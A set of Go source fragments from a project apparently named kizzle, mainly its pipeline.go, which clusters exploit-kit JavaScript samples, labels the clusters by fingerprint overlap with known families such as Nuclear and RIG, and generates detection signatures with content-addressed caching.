// content budget; siggen reads streams without mutating them, so sharing
// one slice across clusters and runs is safe.
func tokensCached(p ingest.Profile, cache *contentcache.Cache, content string) []jstoken.Token {
	key := contentcache.KeyOf(profiledKind(kindTokens, p), content)
	if v, ok := cache.Get(key, content); ok {
		return v.([]jstoken.Token)
	}
	tokens := p.LexDocument(content)
	// A Token is 32 bytes — the stream dwarfs its key content.
	cache.PutSized(key, content, tokens, 32*len(tokens))
	return tokens
}

// labelClusters unpacks each merged cluster's prototype and labels it by
// best winnow overlap against the corpus. Clusters are independent, so
// labeling fans out across the worker pool with per-worker winnow
// scratches; results land by index, keeping the output order identical to
// the serial loop. Unpack results and fingerprints are content-cached, so
// a day dominated by previously seen payloads labels almost for free. The
// second return is the total per-family sweep count (Stats.LabelSweeps).
func labelClusters(inputs []Input, u uniqueSet, merged [][]int, corpus *Corpus, cfg Config) ([]Cluster, int) {
	out := make([]Cluster, len(merged))
	workers := max(cfg.Workers, 1)
	scratches := make([]winnow.Scratch, workers)
	sweeps := make([]int, workers)
	parallel.ForEach(len(merged), workers, 1, func(worker, mi int) {
		uniques := merged[mi]
		rep := repOf(u, uniques)
		var samples []int
		for _, ui := range uniques {
			samples = append(samples, u.members[ui]...)
		}
		proto := u.members[rep][0]
		cl := Cluster{Samples: samples, Prototype: proto, SignatureIndex: -1}
		unp := unpackCached(cfg.profile(), cfg.Cache, inputs[proto].Content)
		cl.Unpacked = unp.payload
		cl.UnpackMethod = unp.method
		if corpus != nil {
			family, overlap, swept := bestMatchCached(cfg.Cache, &scratches[worker], corpus, cl.Unpacked)
			sweeps[worker] += swept
			cl.Overlap = overlap
			if family != "" && overlap >= cfg.Threshold(family) {
				cl.Label = family
			}
		}
		out[mi] = cl
	})
	total := 0
	for _, s := range sweeps {
		total += s
	}
	return out, total
}

// labelEntry caches per-family corpus verdicts for one unpacked payload.
// Each family's slice is tagged with the content-derived generation it was
// computed against, so a corpus Add to one family invalidates only that
// family's slice — the other families' overlaps are reused and only the
// changed family is re-swept. The winnow configuration guards the whole
// entry; the labeling threshold is deliberately NOT part of it —
// thresholds are applied by the caller per run, so threshold changes never
// read stale decisions.
type labelEntry struct {
	cfg      winnow.Config
	verdicts []FamilyVerdict
}

// bestMatchCached resolves corpus.BestMatch through the cache, family by
// family: a payload seen while a family's corpus slice is unchanged reuses
// that family's cached overlap; only stale families are re-swept. The
// third return counts the sweeps executed (0 on a fully warm hit).
func bestMatchCached(cache *contentcache.Cache, scratch *winnow.Scratch, corpus *Corpus, text string) (string, float64, int) {
	wcfg := corpus.Config()
	key := contentcache.KeyOf(kindLabel, text)
	var prior []FamilyVerdict
	if v, ok := cache.Get(key, text); ok {
		if e := v.(labelEntry); e.cfg == wcfg {
			prior = e.verdicts
		}
	}
	hist := FingerprintCached(cache, scratch, text, wcfg)
	verdicts, family, overlap, swept := corpus.ResolveHist(hist, prior)
	if swept > 0 || prior == nil {
		// ResolveHist snapshots generations and overlaps under one corpus
		// lock, so the entry is internally consistent even if the corpus
		// moved before or after; a concurrent Add at worst makes this
		// entry stale immediately — a future miss, never a wrong answer.
		cache.Put(key, text, labelEntry{cfg: wcfg, verdicts: verdicts})
	}
	return family, overlap, swept
}

// generateSignature runs siggen over (a capped number of) the cluster's
// packed token streams. Token values are materialized here, on demand, for
// just the sampled documents — the tokenize stage no longer retains any
// token slices.
func generateSignature(cl *Cluster, inputs []Input, cfg Config) (siggen.Signature, error) {
	limit := cfg.MaxSignatureSamples
	if limit <= 0 {
		limit = 24
	}
	pick := cl.Samples
	if len(pick) > limit {
		// Spread across the cluster rather than taking a prefix.
		stride := len(pick) / limit
		spaced := make([]int, 0, limit)
		for i := 0; i < len(pick) && len(spaced) < limit; i += stride {
			spaced = append(spaced, pick[i])
		}
		pick = spaced
	}
	// Signature generation is deterministic in (label, picked contents,
	// config), so the result is content-addressed too: a cluster whose
	// sampled documents all recur from a previous day reuses its
	// signature outright. The key lists each picked document's
	// (digest, length) in order — identity at the same strength as the
	// content-addressed store itself.
	var kb strings.Builder
	kb.WriteString(cl.Label)
	for _, si := range pick {
		fmt.Fprintf(&kb, "\x00%016x:%x", contentcache.Digest(inputs[si].Content), len(inputs[si].Content))
	}
	keyContent := kb.String()
	key := contentcache.KeyOf(profiledKind(kindSignature, cfg.profile()), keyContent)
	if v, ok := cfg.Cache.Get(key, keyContent); ok {
		if e := v.(signatureEntry); e.cfg == cfg.Signature {
			return e.sig, nil
		}
	}
	streams := make([][]jstoken.Token, 0, len(pick))
	for _, si := range pick {
		streams = append(streams, tokensCached(cfg.profile(), cfg.Cache, inputs[si].Content))
	}
	sig, err := siggen.Generate(cl.Label, streams, cfg.Signature)
	if err != nil {
		return siggen.Signature{}, fmt.Errorf("cluster with %d samples: %w", len(cl.Samples), err)
	}
	cfg.Cache.Put(key, keyContent, signatureEntry{cfg: cfg.Signature, sig: sig})
	return sig, nil
}

// signatureEntry caches one generated signature with the configuration
// that produced it.
type signatureEntry struct {
	cfg siggen.Config
	sig siggen.Signature
}
