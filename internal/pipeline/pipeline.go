package pipeline

import (
	"errors"
	"fmt"
	"math/rand"
	"runtime"
	"strings"
	"sync"
	"time"

	"kizzle/internal/contentcache"
	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/siggen"
	"kizzle/internal/textdist"
	"kizzle/internal/unpack"
	"kizzle/internal/winnow"
)

// Cache-entry kinds for the content-addressed cache the pipeline threads
// through its hot stages: raw document → abstract symbol sequence, raw
// prototype → unpack result, unpacked payload → winnow fingerprint.
const (
	kindRawSymbols contentcache.Kind = iota + 1
	kindUnpack
	kindFingerprint
	kindLabel
	kindTokens
	kindSignature
	kindPairVerdict
)

// Input is one grayware sample handed to the pipeline.
type Input struct {
	// ID identifies the sample in results.
	ID string
	// Content is the HTML document (or raw JavaScript).
	Content string
}

// Config holds the pipeline's tuning knobs (paper §V "Tuning the ML").
type Config struct {
	// Workers is the clustering parallelism (the paper used 50 machines;
	// workers here are goroutines). Defaults to GOMAXPROCS.
	Workers int
	// PartitionSize is the target number of unique token sequences per
	// partition.
	PartitionSize int
	// Eps is the normalized edit-distance threshold for DBSCAN; the
	// paper determined 0.10 experimentally.
	Eps float64
	// MinPts is DBSCAN's minimum weighted neighborhood size.
	MinPts int
	// Winnow configures cluster-labeling fingerprints.
	Winnow winnow.Config
	// Signature configures signature generation.
	Signature siggen.Config
	// Thresholds maps family label to the minimum winnow overlap needed
	// to label a cluster with that family ("a threshold that we
	// determined empirically is malware family specific").
	Thresholds map[string]float64
	// DefaultThreshold applies to families missing from Thresholds.
	DefaultThreshold float64
	// MaxNoiseRecluster caps the reduce step's global re-clustering of
	// partition-level noise (0 disables the cap).
	MaxNoiseRecluster int
	// MaxSignatureSamples caps how many cluster samples feed signature
	// generalization.
	MaxSignatureSamples int
	// Cache is an optional content-addressed cache shared across Process
	// calls (and, at the harness level, across days). Identical raw
	// documents skip tokenization, previously seen prototypes skip
	// unpacking, and previously seen unpacked payloads reuse their winnow
	// fingerprints — day N+1 pays only for content it has not seen. A nil
	// cache disables cross-run reuse; in-run duplicate collapsing still
	// happens.
	Cache *contentcache.Cache
	// Clusterer, when non-nil, runs the partition-clustering stage through
	// an external dispatcher — the paper's 50-machine layout. Partitions
	// are handed out as ShardPartition work units and the results merged
	// back before the reduce step; output is identical to in-process
	// clustering (see internal/shardcoord for the HTTP coordinator/worker
	// implementation). Nil clusters in-process across Workers goroutines.
	Clusterer Clusterer
}

// DefaultConfig returns the parameters used throughout the evaluation.
func DefaultConfig() Config {
	return Config{
		Workers:       runtime.GOMAXPROCS(0),
		PartitionSize: 300,
		Eps:           0.10,
		MinPts:        2,
		Winnow:        winnow.DefaultConfig(),
		Signature:     siggen.DefaultConfig(),
		// Family-specific thresholds, "determined empirically". Nuclear
		// needs a high bar because the benign PluginDetect library
		// legitimately shares its detection core (Figure 15: a 79–88%
		// overlap false positive); RIG needs a low bar because its short
		// body churns ~50% day over day (Figure 11d).
		Thresholds: map[string]float64{
			"Nuclear": 0.88,
			"RIG":     0.45,
		},
		DefaultThreshold:    0.60,
		MaxNoiseRecluster:   3000,
		MaxSignatureSamples: 24,
	}
}

// Threshold resolves the labeling threshold for a family.
func (c Config) Threshold(family string) float64 {
	if t, ok := c.Thresholds[family]; ok {
		return t
	}
	return c.DefaultThreshold
}

// Cluster is one merged cluster with its label.
type Cluster struct {
	// Samples indexes into the Process inputs.
	Samples []int
	// Prototype is the representative sample index.
	Prototype int
	// Label is the kit family, or "" for benign.
	Label string
	// Overlap is the winnow overlap that produced the label.
	Overlap float64
	// Unpacked is the prototype's decoded payload (or its own script
	// text when not packed).
	Unpacked string
	// UnpackMethod names the unpacker that fired ("" if none).
	UnpackMethod string
	// SignatureIndex points into Result.Signatures, -1 if none.
	SignatureIndex int
}

// Stats captures the per-stage costs the paper discusses (§IV
// "Cluster-Based Processing Performance": clustering dominates, the reduce
// step is the bottleneck to parallelize next).
type Stats struct {
	Samples         int
	UniqueSequences int
	Partitions      int
	Clusters        int
	Malicious       int
	NoisePoints     int

	// UniqueDocuments counts distinct raw documents after content-digest
	// pre-deduplication; Samples-UniqueDocuments were never tokenized.
	UniqueDocuments int
	// CacheHits / CacheMisses are this run's content-cache lookups (zero
	// without a configured cache).
	CacheHits   int64
	CacheMisses int64

	Tokenize  time.Duration
	Cluster   time.Duration
	Reduce    time.Duration
	Label     time.Duration
	Signature time.Duration
}

// Result is the output of one pipeline run.
type Result struct {
	Clusters   []Cluster
	Signatures []siggen.Signature
	Stats      Stats
}

// ErrNoInputs is returned when Process is called with an empty batch.
var ErrNoInputs = errors.New("pipeline: no input samples")

// Process runs the full pipeline over one batch of samples.
func Process(inputs []Input, corpus *Corpus, cfg Config) (Result, error) {
	if len(inputs) == 0 {
		return Result{}, ErrNoInputs
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.PartitionSize <= 0 {
		cfg.PartitionSize = 300
	}
	if cfg.Eps <= 0 {
		cfg.Eps = 0.10
	}
	if cfg.MinPts <= 0 {
		cfg.MinPts = 2
	}

	if cfg.Cache == nil {
		// A transient per-run cache still pays for itself: clusters of one
		// family frequently unpack to the same payload, so unpack results,
		// fingerprints, and label verdicts are shared across clusters even
		// within a single batch. Cross-run reuse needs a caller-provided
		// cache.
		cfg.Cache = contentcache.New(16 << 20)
	}

	var res Result
	res.Stats.Samples = len(inputs)
	preCache := cfg.Cache.Stats()

	// Stage 1: content-digest pre-dedup, then tokenize straight to
	// abstract symbols (token values are never materialized here; the
	// signature stage re-lexes the few samples it needs). Identical raw
	// documents are lexed once per batch, and once per cache lifetime
	// when a cache is configured.
	start := time.Now()
	symbols, uniqueDocs := tokenizeAll(inputs, cfg.Cache, cfg.Workers)
	res.Stats.Tokenize = time.Since(start)
	res.Stats.UniqueDocuments = uniqueDocs

	// Stage 2: deduplicate identical symbol sequences. Exploit-kit
	// randomization leaves the abstract sequence intact, so dedup often
	// collapses a family's whole day into a handful of points.
	uniq := dedupe(symbols)
	res.Stats.UniqueSequences = len(uniq.seqs)

	// Stage 3: partition and cluster — in-process across cfg.Workers, or
	// dispatched to shard workers when a Clusterer is configured.
	start = time.Now()
	parts := partition(len(uniq.seqs), cfg.PartitionSize)
	res.Stats.Partitions = len(parts)
	var partClusters []partCluster
	var noise []int
	if cfg.Clusterer != nil {
		var err error
		partClusters, noise, err = clusterViaClusterer(uniq, parts, cfg)
		if err != nil {
			return Result{}, fmt.Errorf("pipeline: %w", err)
		}
	} else {
		partClusters, noise = clusterPartitions(uniq, parts, cfg)
	}
	res.Stats.Cluster = time.Since(start)

	// Stage 4: reduce — merge partition clusters, re-cluster noise.
	start = time.Now()
	merged, remaining := reduceClusters(uniq, partClusters, noise, cfg)
	res.Stats.Reduce = time.Since(start)
	res.Stats.NoisePoints = 0
	for _, u := range remaining {
		res.Stats.NoisePoints += len(uniq.members[u])
	}

	// Stage 5: label each cluster via its unpacked prototype.
	start = time.Now()
	res.Clusters = labelClusters(inputs, uniq, merged, corpus, cfg)
	res.Stats.Label = time.Since(start)
	res.Stats.Clusters = len(res.Clusters)

	// Stage 6: signatures for malicious clusters, generated in parallel
	// and assembled in cluster order so the output is identical to the
	// serial loop.
	start = time.Now()
	type sigResult struct {
		sig siggen.Signature
		ok  bool
	}
	sigResults := make([]sigResult, len(res.Clusters))
	var malicious []int
	for ci := range res.Clusters {
		res.Clusters[ci].SignatureIndex = -1
		if res.Clusters[ci].Label != "" {
			malicious = append(malicious, ci)
		}
	}
	res.Stats.Malicious = len(malicious)
	parallel.ForEach(len(malicious), cfg.Workers, 1, func(_, k int) {
		ci := malicious[k]
		sig, err := generateSignature(&res.Clusters[ci], inputs, cfg)
		// A failed generation (short common runs happen occasionally)
		// leaves the cluster labeled but unsignatured.
		sigResults[ci] = sigResult{sig: sig, ok: err == nil}
	})
	for ci := range res.Clusters {
		if sigResults[ci].ok {
			res.Clusters[ci].SignatureIndex = len(res.Signatures)
			res.Signatures = append(res.Signatures, sigResults[ci].sig)
		}
	}
	res.Stats.Signature = time.Since(start)
	postCache := cfg.Cache.Stats()
	res.Stats.CacheHits = postCache.Hits - preCache.Hits
	res.Stats.CacheMisses = postCache.Misses - preCache.Misses
	return res, nil
}

// tokenizeAll produces every input's abstract symbol sequence. Inputs are
// first grouped by content digest (verified byte-for-byte within a digest
// bucket) so identical raw documents — the bulk of provider telemetry —
// are lexed once and share one symbol slice; each group representative is
// then lexed by the symbol-only streaming path through per-worker
// scratches, consulting the content cache so repeated content across
// batches is never lexed twice. Returns the per-input symbol sequences and
// the number of distinct raw documents.
func tokenizeAll(inputs []Input, cache *contentcache.Cache, workers int) ([][]jstoken.Symbol, int) {
	n := len(inputs)
	symbols := make([][]jstoken.Symbol, n)

	// Digest every document in parallel: ~30× faster than lexing, so this
	// pass is profitable whenever a batch repeats any content at all.
	keys := make([]contentcache.Key, n)
	parallel.ForEach(n, workers, 8, func(_, i int) {
		keys[i] = contentcache.KeyOf(kindRawSymbols, inputs[i].Content)
	})

	// Group identical documents. A digest bucket may (in principle) mix
	// distinct contents; members are verified against their group
	// representative, so a collision costs a second group, never a wrong
	// assignment.
	groups := make([][]int, 0, n)
	index := make(map[contentcache.Key][]int, n)
	for i := 0; i < n; i++ {
		found := -1
		for _, g := range index[keys[i]] {
			if inputs[groups[g][0]].Content == inputs[i].Content {
				found = g
				break
			}
		}
		if found < 0 {
			found = len(groups)
			groups = append(groups, nil)
			index[keys[i]] = append(index[keys[i]], found)
		}
		groups[found] = append(groups[found], i)
	}

	// Lex one representative per group.
	scratches := make([]jstoken.Scratch, workers)
	parallel.ForEach(len(groups), workers, 1, func(worker, g int) {
		rep := groups[g][0]
		content := inputs[rep].Content
		var syms []jstoken.Symbol
		if v, ok := cache.Get(keys[rep], content); ok {
			syms = v.([]jstoken.Symbol)
		} else {
			syms = scratches[worker].AppendSymbols(nil, content)
			cache.PutSized(keys[rep], content, syms, 2*len(syms))
		}
		for _, i := range groups[g] {
			symbols[i] = syms
		}
	})
	return symbols, len(groups)
}

// uniqueSet groups samples with identical abstract sequences.
type uniqueSet struct {
	seqs    [][]jstoken.Symbol
	members [][]int // members[u] = input indices sharing seqs[u]
	ids     []seqID // cache identities, aligned with seqs
}

func dedupe(symbols [][]jstoken.Symbol) uniqueSet {
	type bucket struct {
		unique int
	}
	var u uniqueSet
	index := make(map[uint64][]bucket)
	// Raw pre-dedup makes duplicate documents share one backing slice, so
	// the sequence hash is memoized by slice identity — a telemetry batch
	// with heavy duplication hashes each distinct document once.
	hashMemo := make(map[*jstoken.Symbol]uint64)
	for i, seq := range symbols {
		var h uint64
		if len(seq) == 0 {
			h = hashSeq(seq)
		} else if v, ok := hashMemo[&seq[0]]; ok {
			h = v
		} else {
			h = hashSeq(seq)
			hashMemo[&seq[0]] = h
		}
		found := -1
		for _, b := range index[h] {
			if symbolsEqual(u.seqs[b.unique], seq) {
				found = b.unique
				break
			}
		}
		if found < 0 {
			found = len(u.seqs)
			u.seqs = append(u.seqs, seq)
			u.members = append(u.members, nil)
			u.ids = append(u.ids, seqID{h1: h, h2: altHashSeq(seq), n: len(seq)})
			index[h] = append(index[h], bucket{unique: found})
		}
		u.members[found] = append(u.members[found], i)
	}
	return u
}

func hashSeq(s []jstoken.Symbol) uint64 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	for _, x := range s {
		h ^= uint64(x)
		h *= prime
	}
	return h
}

// seqID identifies a symbol sequence for cross-run caching: two
// independent 64-bit hashes plus the length. The eps-verdict cache keys
// pairs of these; a wrong hit needs a simultaneous collision of both
// hashes and the length, which is the same identity strength the
// content-addressed store provides elsewhere.
type seqID struct {
	h1, h2 uint64
	n      int
}

// altHashSeq is a second, independently mixed sequence hash.
func altHashSeq(s []jstoken.Symbol) uint64 {
	const (
		p1 = 11400714785074694791
		p2 = 14029467366897019727
	)
	h := uint64(2870177450012600261) ^ (uint64(len(s)) * p1)
	for _, x := range s {
		h = (h ^ uint64(x)) * p2
		h = h<<29 | h>>35
	}
	return h
}


func symbolsEqual(a, b []jstoken.Symbol) bool {
	if len(a) != len(b) {
		return false
	}
	if len(a) == 0 || &a[0] == &b[0] {
		// Shared backing slice (raw pre-dedup aliases duplicates).
		return true
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// partition assigns unique-sequence indices to partitions of roughly
// targetSize, using a deterministic shuffle ("randomly partition the
// samples across a cluster of machines").
func partition(n, targetSize int) [][]int {
	parts := (n + targetSize - 1) / targetSize
	if parts < 1 {
		parts = 1
	}
	order := rand.New(rand.NewSource(int64(n)*2654435761 + 1)).Perm(n)
	out := make([][]int, parts)
	for pos, idx := range order {
		p := pos % parts
		out[p] = append(out[p], idx)
	}
	return out
}

// partCluster is one cluster local to a partition, by unique indices.
type partCluster []int

// clusterPartitions runs weighted DBSCAN per partition in parallel and
// returns the per-partition clusters plus all noise uniques.
func clusterPartitions(u uniqueSet, parts [][]int, cfg Config) ([]partCluster, []int) {
	type partResult struct {
		clusters []partCluster
		noise    []int
	}
	results := make([]partResult, len(parts))
	var wg sync.WaitGroup
	sem := make(chan struct{}, cfg.Workers)
	for pi, part := range parts {
		wg.Add(1)
		go func(pi int, part []int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			results[pi] = clusterOne(u, part, cfg)
		}(pi, part)
	}
	wg.Wait()

	var clusters []partCluster
	var noise []int
	for _, r := range results {
		clusters = append(clusters, r.clusters...)
		noise = append(noise, r.noise...)
	}
	return clusters, noise
}

func clusterOne(u uniqueSet, part []int, cfg Config) (out struct {
	clusters []partCluster
	noise    []int
}) {
	weights := make([]int, len(part))
	for i, ui := range part {
		weights[i] = len(u.members[ui])
	}
	adj := neighborGraph(u.seqs, u.ids, cfg.Cache, part, cfg.Eps, cfg.Workers)
	ids := dbscan.ClusterWeighted(adj, weights, cfg.MinPts)
	for gi, group := range dbscan.Groups(ids) {
		_ = gi
		pc := make(partCluster, len(group))
		for k, local := range group {
			pc[k] = part[local]
		}
		out.clusters = append(out.clusters, pc)
	}
	for local, id := range ids {
		if id == dbscan.Noise {
			out.noise = append(out.noise, part[local])
		}
	}
	return out
}

// reduceClusters merges partition clusters whose representatives are within
// eps (union-find), re-clusters the pooled noise globally, and adopts any
// remaining noise point that sits within eps of a merged representative.
// This reconciliation is the step the paper identifies as the bottleneck.
func reduceClusters(u uniqueSet, clusters []partCluster, noise []int, cfg Config) ([][]int, []int) {
	// Union-find over partition clusters by representative distance.
	reps := make([]int, len(clusters))
	for i, c := range clusters {
		reps[i] = repOf(u, c)
	}
	parent := make([]int, len(clusters))
	for i := range parent {
		parent[i] = i
	}
	var find func(int) int
	find = func(x int) int {
		for parent[x] != x {
			parent[x] = parent[parent[x]]
			x = parent[x]
		}
		return x
	}
	union := func(a, b int) { parent[find(a)] = find(b) }
	// The rep-vs-rep eps graph is computed with the same parallel
	// length-pruned kernel as partition clustering (the paper flags this
	// reduce reconciliation as the serial bottleneck). Unions are applied
	// in the same (i, j) ascending order the pairwise loop used, so the
	// merged-cluster ordering is unchanged.
	repAdj := neighborGraph(u.seqs, u.ids, cfg.Cache, reps, cfg.Eps, cfg.Workers)
	for i := range repAdj {
		for _, j := range repAdj[i] {
			if j > i {
				union(i, j)
			}
		}
	}
	mergedBy := make(map[int][]int)
	for i, c := range clusters {
		root := find(i)
		mergedBy[root] = append(mergedBy[root], c...)
	}
	var merged [][]int
	for i := 0; i < len(clusters); i++ {
		if find(i) == i {
			merged = append(merged, mergedBy[i])
		}
	}

	// Re-cluster pooled noise: uniques whose family was split across
	// partitions below MinPts per partition still deserve a cluster.
	if len(noise) > 0 && (cfg.MaxNoiseRecluster == 0 || len(noise) <= cfg.MaxNoiseRecluster) {
		weights := make([]int, len(noise))
		for i, ui := range noise {
			weights[i] = len(u.members[ui])
		}
		adj := neighborGraph(u.seqs, u.ids, cfg.Cache, noise, cfg.Eps, cfg.Workers)
		ids := dbscan.ClusterWeighted(adj, weights, cfg.MinPts)
		for _, group := range dbscan.Groups(ids) {
			nc := make([]int, len(group))
			for k, local := range group {
				nc[k] = noise[local]
			}
			merged = append(merged, nc)
		}
		var rest []int
		for local, id := range ids {
			if id == dbscan.Noise {
				rest = append(rest, noise[local])
			}
		}
		noise = rest
	}

	// Adopt stragglers into existing clusters. Each merged cluster's
	// representative is tracked incrementally (an adopted unique covering
	// more samples than the current rep becomes the new rep, exactly as
	// recomputing repOf after each append would decide), and one Scratch
	// serves every distance test.
	var remaining []int
	var scratch textdist.Scratch
	mergedReps := make([]int, len(merged))
	for mi := range merged {
		mergedReps[mi] = repOf(u, merged[mi])
	}
	for _, ui := range noise {
		adopted := false
		for mi := range merged {
			rep := mergedReps[mi]
			if scratch.WithinNormalized(u.seqs[ui], u.seqs[rep], cfg.Eps) {
				merged[mi] = append(merged[mi], ui)
				if len(u.members[ui]) > len(u.members[rep]) {
					mergedReps[mi] = ui
				}
				adopted = true
				break
			}
		}
		if !adopted {
			remaining = append(remaining, ui)
		}
	}
	return merged, remaining
}

// repOf picks a cluster's representative unique: the one covering the most
// samples (the modal shape).
func repOf(u uniqueSet, cluster []int) int {
	best := cluster[0]
	for _, ui := range cluster[1:] {
		if len(u.members[ui]) > len(u.members[best]) {
			best = ui
		}
	}
	return best
}

// unpackEntry is the cached outcome of unpacking one raw prototype: the
// decoded payload (or the prototype's own script text when not packed) and
// the unpacker that fired ("" if none).
type unpackEntry struct {
	payload string
	method  string
}

// unpackCached unpacks content through the cache: a prototype seen on any
// previous day is never re-unpacked.
func unpackCached(cache *contentcache.Cache, content string) unpackEntry {
	key := contentcache.KeyOf(kindUnpack, content)
	if v, ok := cache.Get(key, content); ok {
		return v.(unpackEntry)
	}
	var e unpackEntry
	if res, err := unpack.Unpack(content); err == nil {
		e = unpackEntry{payload: res.Payload, method: res.Method}
	} else {
		e = unpackEntry{payload: jstoken.ExtractScripts(content)}
	}
	cache.PutSized(key, content, e, len(e.payload))
	return e
}

// fingerprintEntry pairs a cached histogram with the winnow configuration
// that produced it; a hit under a different configuration is a miss.
type fingerprintEntry struct {
	cfg  winnow.Config
	hist winnow.Histogram
}

// FingerprintCached computes (or retrieves) the winnow histogram of text.
// Cached histograms are shared read-only — Overlap never mutates its
// arguments — so previously seen unpacked payloads cost one digest instead
// of a full fingerprint pass. scratch may be nil for one-off calls.
func FingerprintCached(cache *contentcache.Cache, scratch *winnow.Scratch, text string, cfg winnow.Config) winnow.Histogram {
	key := contentcache.KeyOf(kindFingerprint, text)
	if v, ok := cache.Get(key, text); ok {
		if e := v.(fingerprintEntry); e.cfg == cfg {
			return e.hist
		}
	}
	if scratch == nil {
		scratch = new(winnow.Scratch)
	}
	hist := scratch.Fingerprint(text, cfg)
	// ~48 bytes per map entry (key, value, bucket overhead).
	cache.PutSized(key, text, fingerprintEntry{cfg: cfg, hist: hist}, 48*len(hist))
	return hist
}

// tokensCached lexes a document to its full token stream through the
// cache. Only signature-stage sample documents take this path (a bounded
// set per batch), so the retained token slices stay small relative to the
// content budget; siggen reads streams without mutating them, so sharing
// one slice across clusters and runs is safe.
func tokensCached(cache *contentcache.Cache, content string) []jstoken.Token {
	key := contentcache.KeyOf(kindTokens, content)
	if v, ok := cache.Get(key, content); ok {
		return v.([]jstoken.Token)
	}
	tokens := jstoken.LexDocument(content)
	// A Token is 32 bytes — the stream dwarfs its key content.
	cache.PutSized(key, content, tokens, 32*len(tokens))
	return tokens
}

// labelClusters unpacks each merged cluster's prototype and labels it by
// best winnow overlap against the corpus. Clusters are independent, so
// labeling fans out across the worker pool with per-worker winnow
// scratches; results land by index, keeping the output order identical to
// the serial loop. Unpack results and fingerprints are content-cached, so
// a day dominated by previously seen payloads labels almost for free.
func labelClusters(inputs []Input, u uniqueSet, merged [][]int, corpus *Corpus, cfg Config) []Cluster {
	out := make([]Cluster, len(merged))
	workers := max(cfg.Workers, 1)
	scratches := make([]winnow.Scratch, workers)
	parallel.ForEach(len(merged), workers, 1, func(worker, mi int) {
		uniques := merged[mi]
		rep := repOf(u, uniques)
		var samples []int
		for _, ui := range uniques {
			samples = append(samples, u.members[ui]...)
		}
		proto := u.members[rep][0]
		cl := Cluster{Samples: samples, Prototype: proto, SignatureIndex: -1}
		unp := unpackCached(cfg.Cache, inputs[proto].Content)
		cl.Unpacked = unp.payload
		cl.UnpackMethod = unp.method
		if corpus != nil {
			family, overlap := bestMatchCached(cfg.Cache, &scratches[worker], corpus, cl.Unpacked)
			cl.Overlap = overlap
			if family != "" && overlap >= cfg.Threshold(family) {
				cl.Label = family
			}
		}
		out[mi] = cl
	})
	return out
}

// labelEntry caches a corpus best-match verdict for one unpacked payload.
// The verdict is only valid for the exact corpus contents (version) and
// winnow configuration it was computed against; the labeling threshold is
// deliberately NOT part of the entry — thresholds are applied by the
// caller per run, so threshold changes never read stale decisions.
type labelEntry struct {
	corpusVersion uint64
	cfg           winnow.Config
	family        string
	overlap       float64
}

// bestMatchCached resolves corpus.BestMatch through the cache: a payload
// seen while the corpus is unchanged skips both the fingerprint pass and
// the overlap sweep.
func bestMatchCached(cache *contentcache.Cache, scratch *winnow.Scratch, corpus *Corpus, text string) (string, float64) {
	version := corpus.Version()
	wcfg := corpus.Config()
	key := contentcache.KeyOf(kindLabel, text)
	if v, ok := cache.Get(key, text); ok {
		if e := v.(labelEntry); e.corpusVersion == version && e.cfg == wcfg {
			return e.family, e.overlap
		}
	}
	hist := FingerprintCached(cache, scratch, text, wcfg)
	family, overlap := corpus.BestMatchHist(hist)
	// Only cache if the corpus did not move underneath the computation —
	// otherwise a verdict from the newer corpus would be tagged with the
	// older version and serve stale answers to it.
	if corpus.Version() == version {
		cache.Put(key, text, labelEntry{corpusVersion: version, cfg: wcfg, family: family, overlap: overlap})
	}
	return family, overlap
}

// generateSignature runs siggen over (a capped number of) the cluster's
// packed token streams. Token values are materialized here, on demand, for
// just the sampled documents — the tokenize stage no longer retains any
// token slices.
func generateSignature(cl *Cluster, inputs []Input, cfg Config) (siggen.Signature, error) {
	limit := cfg.MaxSignatureSamples
	if limit <= 0 {
		limit = 24
	}
	pick := cl.Samples
	if len(pick) > limit {
		// Spread across the cluster rather than taking a prefix.
		stride := len(pick) / limit
		spaced := make([]int, 0, limit)
		for i := 0; i < len(pick) && len(spaced) < limit; i += stride {
			spaced = append(spaced, pick[i])
		}
		pick = spaced
	}
	// Signature generation is deterministic in (label, picked contents,
	// config), so the result is content-addressed too: a cluster whose
	// sampled documents all recur from a previous day reuses its
	// signature outright. The key lists each picked document's
	// (digest, length) in order — identity at the same strength as the
	// content-addressed store itself.
	var kb strings.Builder
	kb.WriteString(cl.Label)
	for _, si := range pick {
		fmt.Fprintf(&kb, "\x00%016x:%x", contentcache.Digest(inputs[si].Content), len(inputs[si].Content))
	}
	keyContent := kb.String()
	key := contentcache.KeyOf(kindSignature, keyContent)
	if v, ok := cfg.Cache.Get(key, keyContent); ok {
		if e := v.(signatureEntry); e.cfg == cfg.Signature {
			return e.sig, nil
		}
	}
	streams := make([][]jstoken.Token, 0, len(pick))
	for _, si := range pick {
		streams = append(streams, tokensCached(cfg.Cache, inputs[si].Content))
	}
	sig, err := siggen.Generate(cl.Label, streams, cfg.Signature)
	if err != nil {
		return siggen.Signature{}, fmt.Errorf("cluster with %d samples: %w", len(cl.Samples), err)
	}
	cfg.Cache.Put(key, keyContent, signatureEntry{cfg: cfg.Signature, sig: sig})
	return sig, nil
}

// signatureEntry caches one generated signature with the configuration
// that produced it.
type signatureEntry struct {
	cfg siggen.Config
	sig siggen.Signature
}
