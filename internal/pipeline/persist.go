package pipeline

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math"

	"kizzle/internal/contentcache"
	"kizzle/internal/ingest"
	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
	"kizzle/internal/winnow"
)

// This file owns the contentcache disk codecs for the pipeline's artifact
// kinds, so a saved cache snapshot restores every derived artifact a warm
// day relies on: abstract symbol sequences, unpack results, winnow
// fingerprints, label verdicts, token streams, generated signatures, and
// pair within-eps verdicts. Encodings are hand-rolled little-endian +
// uvarint — the store carries its own checksums and verification, so the
// codecs only need to be deterministic and self-delimiting.

// CacheCodecs returns the codec set for every pipeline cache kind. Pass it
// to contentcache.Save / Load to persist a pipeline cache across restarts
// (cmd/evalmonth -cachedir, cmd/kizzleshard -cachedir, and
// kizzle.Compiler.SaveCache all do).
func CacheCodecs() contentcache.Codecs {
	codecs := contentcache.Codecs{
		kindRawSymbols:  symbolsCodec{},
		kindUnpack:      unpackCodec{},
		kindFingerprint: fingerprintCodec{},
		kindLabel:       labelCodec{},
